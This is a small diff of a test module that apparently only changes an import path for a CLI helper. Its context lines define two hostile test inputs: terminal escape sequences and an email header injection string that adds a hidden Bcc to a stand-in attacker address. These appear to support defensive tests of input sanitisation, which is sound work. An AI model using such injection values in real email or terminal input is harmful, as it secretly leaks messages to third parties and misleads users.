@@ -20,7 +20,7 @@ from console.services.journal import Journal
 from console.services.operations import Operator
 from testkit.odoo_dbs import build_sqlite
 from testkit.smtp_server import SmtpTestServer
-from tests.cli_run import run_cli
+from tests.helpers.cli import run_cli
 
 ESCAPES = "\x1b[2J\x1b]0;owned\x07"
 INJECTION = "Hello\r\nBcc: evil@attacker.example\r\nX-Evil: 1"
